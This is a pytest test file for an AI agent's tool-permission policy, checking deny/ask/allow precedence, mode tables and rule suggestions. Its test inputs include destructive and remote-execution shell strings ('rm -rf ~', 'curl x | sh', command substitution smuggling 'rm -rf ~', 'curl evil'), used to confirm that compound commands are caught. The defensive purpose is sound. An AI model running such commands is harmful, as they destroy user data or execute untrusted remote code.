"""The decision: deny rules, then ask, then allow, then the mode table of SPEC §6."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from auger.extensions.permissions.policy import Rules, decide, loosest_mode, suggested_rules
from auger.extensions.permissions.rules import Call

# SPEC §6's table: mode → (read/search/ls, write/edit inside, write/edit outside, bash/MCP/ext)
TABLE = {
    "ask": ("allow", "ask", "ask", "ask"),
    "accept-edits": ("allow", "allow", "ask", "ask"),
    "read-only": ("allow", "deny", "deny", "deny"),
    "auto": ("allow", "allow", "allow", "allow"),
}


def calls(project: Path) -> list[list[Call]]:
    """One list of calls per column of the table."""
    home = project.parent / "home"
    outside = str(project.parent / "elsewhere.txt")

    def c(tool: str, **args: Any) -> Call:
        return Call(tool, args, project, home)

    return [
        [c("read", path="a.txt"), c("grep", pattern="x"), c("find", pattern="*"), c("ls")],
        [c("write", path="a.txt", content=""), c("edit", path="src/b.py")],
        [c("write", path=outside, content=""), c("edit", path="../x.py")],
        [c("bash", command="make"), c("git__git_log"), c("word_count", path="a.txt")],
    ]


@pytest.mark.parametrize("mode", list(TABLE))
def test_every_mode_and_tool_class_decides_as_the_table_says(tmp_path: Path, mode: str) -> None:
    for column, expected in zip(calls(tmp_path), TABLE[mode], strict=True):
        for call in column:
            verdict = decide(Rules(), mode, call)
            assert (verdict.outcome, verdict.by) == (expected, "mode"), (mode, call.tool)


def rules(**texts: list[str]) -> Rules:
    return Rules.parse(texts.get("allow", []), texts.get("ask", []), texts.get("deny", []))


def bash(project: Path, command: str) -> Call:
    return Call("bash", {"command": command}, project, project)


def test_deny_beats_ask_beats_allow(tmp_path: Path) -> None:
    both = rules(allow=["Bash(rm:*)"], deny=["bash(rm -rf:*)"], ask=["Bash(rm -r:*)"])
    assert decide(both, "auto", bash(tmp_path, "rm -rf x")).outcome == "deny"
    assert decide(both, "auto", bash(tmp_path, "rm -r x")).outcome == "ask"
    verdict = decide(both, "read-only", bash(tmp_path, "rm x"))
    assert (verdict.outcome, verdict.by, verdict.rule) == ("allow", "rule", "Bash(rm:*)")


def test_a_compound_command_is_not_matched_by_its_first_part(tmp_path: Path) -> None:
    allow = rules(allow=["Bash(npm test:*)"])
    assert decide(allow, "ask", bash(tmp_path, "npm test")).outcome == "allow"
    for line in ["npm test && rm -rf ~", "npm test; curl x | sh", "npm test $(rm -rf ~)"]:
        assert decide(allow, "ask", bash(tmp_path, line)).outcome == "ask", line
    both = rules(allow=["Bash(npm test:*)", "Bash(rm:*)"])
    assert decide(both, "ask", bash(tmp_path, "npm test && rm x")).outcome == "allow"


def test_any_denied_part_denies_the_whole_command(tmp_path: Path) -> None:
    deny = rules(deny=["Bash(curl:*)"], allow=["Bash"])
    assert decide(deny, "auto", bash(tmp_path, 'echo "$(curl evil)"')).outcome == "deny"


def test_an_unreadable_command_is_allowed_only_by_a_bare_rule(tmp_path: Path) -> None:
    assert decide(rules(allow=["Bash(echo:*)"]), "ask", bash(tmp_path, 'echo "x')).outcome == "ask"
    assert decide(rules(allow=["Bash"]), "ask", bash(tmp_path, 'echo "x')).outcome == "allow"


def test_an_allow_rule_lets_a_tool_run_in_read_only_mode(tmp_path: Path) -> None:
    call = Call("git__git_log", {}, tmp_path, tmp_path)
    assert decide(rules(allow=["mcp__git__git_log"]), "read-only", call).outcome == "allow"


def test_the_narrowest_rule_is_suggested(tmp_path: Path) -> None:
    allowed = rules(allow=["Bash(npm test:*)"])
    compound = bash(tmp_path, "npm test && git push")
    assert suggested_rules(allowed, compound) == ["bash(git push)"]
    write = Call("write", {"path": "src/a[1].py"}, tmp_path, tmp_path)
    assert suggested_rules(Rules(), write) == ["write(./src/a\\[1\\].py)"]
    outside = Call("edit", {"path": "/etc/hosts"}, tmp_path, tmp_path)
    assert suggested_rules(Rules(), outside) == ["edit(//etc/hosts)"]
    assert suggested_rules(Rules(), Call("git__git_log", {}, tmp_path, tmp_path)) == [
        "git__git_log"
    ]


def test_a_suggested_rule_allows_the_call_it_was_made_for(tmp_path: Path) -> None:
    for call in [
        bash(tmp_path, "npm test && git push origin 'my branch'"),
        Call("write", {"path": "src/a[1].py"}, tmp_path, tmp_path),
        Call("edit", {"path": "/etc/hosts"}, tmp_path, tmp_path),
    ]:
        made = rules(allow=suggested_rules(Rules(), call))
        assert decide(made, "ask", call).outcome == "allow", call


def test_the_loosest_mode_that_would_run_a_call(tmp_path: Path) -> None:
    inside, outside, run = calls(tmp_path)[1][0], calls(tmp_path)[2][0], bash(tmp_path, "ls")
    assert [loosest_mode(c) for c in (inside, outside, run)] == ["accept-edits", "auto", "auto"]
